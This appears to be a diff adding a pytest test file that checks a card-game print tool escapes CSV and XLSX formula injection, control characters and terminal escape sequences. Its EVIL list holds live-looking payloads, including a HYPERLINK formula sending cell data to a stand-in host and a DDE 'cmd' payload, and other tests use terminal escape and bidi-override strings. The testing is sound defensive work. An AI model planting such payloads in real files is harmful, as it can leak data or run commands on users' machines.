@@ -1,0 +1,115 @@
+"""Text from the data is inert wherever pnpgen writes or prints it: CSV cells that a spreadsheet
+would run are neutralised (OWASP: a leading '), the XLSX writer stores them as text; control
+characters in the data are an error naming the field; what reaches the terminal is escaped."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import pytest
+from hypothesis import given, settings, strategies as st
+
+from conftest import DECK_YAML, make_workspace, run
+
+from pnpgen.safetext import CONTROL, csv_cell, csv_text, shown
+
+EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
+
+
+def _cells(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def _evil_workspace(tmp_path: Path) -> Path:
+    deck = DECK_YAML + "".join(f"  - {{name: {json.dumps(n)}, text: 本文}}\n" for n in EVIL)
+    return make_workspace(tmp_path / "ws", deck=deck)
+
+
+def _inert(rows: list[list[str]]) -> None:
+    cells = [c for row in rows for c in row]
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    for name in EVIL:
+        assert "'" + name in cells
+
+
+def test_formulas_in_names_are_inert_in_every_csv(tmp_path):
+    ws = _evil_workspace(tmp_path)
+    assert run(ws, "build", "--game", "test", "--no-rulebook", "--jobs", "1") == 0
+    _inert(_cells((ws / "build/test/shop/order.csv").read_bytes()))
+    assert run(ws, "export", "--game", "test", "--preset", "doujin") == 0
+    _inert(_cells((ws / "build/test/doujin/order.csv").read_bytes()))
+    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards", "--out", str(tmp_path / "cards.csv")) == 0
+    _inert(_cells((tmp_path / "cards.csv").read_bytes()))
+
+
+def test_the_neutralised_csv_reads_back_to_the_same_names(tmp_path, capsys):
+    ws = _evil_workspace(tmp_path)
+    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards") == 0
+    deck = ws / "data/test/decks/cards.yaml"
+    deck.write_text(DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"), encoding="utf-8")
+    capsys.readouterr()
+    assert run(ws, "list") == 0
+    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards", "--out", str(tmp_path / "again.csv")) == 0
+    _inert(_cells((tmp_path / "again.csv").read_bytes()))
+
+
+def test_xlsx_stores_formula_like_names_as_text(tmp_path):
+    import openpyxl
+
+    ws = _evil_workspace(tmp_path)
+    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards", "--out", str(tmp_path / "c.xlsx")) == 0
+    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx").active
+    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
+    assert {c.value for c in cells} >= set(EVIL)
+    assert all(c.data_type == "s" for c in cells)
+
+
+@pytest.mark.parametrize("written, char", [(r'"\e]0;pwned\a"', "U+001B"), (r'"a\0b"', "U+0000"),
+                                           ('"\u202eevil"', "U+202E"), (r'"x\u2066y"', "U+2066"),
+                                           (r'"\x85 NEL"', "U+0085"), (r'"del\x7f"', "U+007F")])
+def test_a_control_character_in_the_data_is_an_error_naming_the_field(tmp_path, capsys, written, char):
+    deck = DECK_YAML + "  - {name: 普通, text: 本文}\n" + f"  - {{name: {written}, text: 本文}}\n"
+    ws = make_workspace(tmp_path / "ws", deck=deck)
+    assert run(ws, "list") == 2
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1 and "cards.yaml:10:" in err and "pieces.2.name" in err and char in err
+    assert "\x1b" not in err and "\u202e" not in err
+
+
+def test_a_control_character_in_a_spreadsheet_is_an_error_at_its_cell(tmp_path, capsys):
+    ws = make_workspace(tmp_path / "ws", deck=DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"))
+    (ws / "data/test/decks/cards.csv").write_text("name,text\nok,本文\nbad\x1b[31m,本文\n", encoding="utf-8")
+    assert run(ws, "list") == 2
+    err = capsys.readouterr().err
+    assert "cards.csv:3:1: name: control character U+001B" in err and "\x1b" not in err
+
+
+def test_an_unterminated_csv_quote_is_an_error_not_lost_rows(tmp_path, capsys):
+    ws = make_workspace(tmp_path / "ws", deck=DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"))
+    (ws / "data/test/decks/cards.csv").write_text('name,text\nA,"本文\nB,本文\nC,本文\n', encoding="utf-8")
+    assert run(ws, "list") == 2
+    assert "cards.csv" in capsys.readouterr().err
+
+
+def test_terminal_output_escapes_what_it_echoes(tmp_path, capsys):
+    ws = make_workspace(tmp_path / "ws")
+    assert run(ws, "build", "--game", "no\x1b]0;title\x07pe") == 2
+    err = capsys.readouterr().err
+    assert "\x1b" not in err and "\x07" not in err
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text())
+def test_shown_leaves_no_control_character(text):
+    assert CONTROL.search(shown(text)) is None
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text())
+def test_csv_cells_round_trip_and_are_never_live(text):
+    cell = csv_cell(text)
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert csv_text(cell) == text or (text.startswith("'") and text[1:2] in ("=", "+", "-", "@", "\t", "\r"))
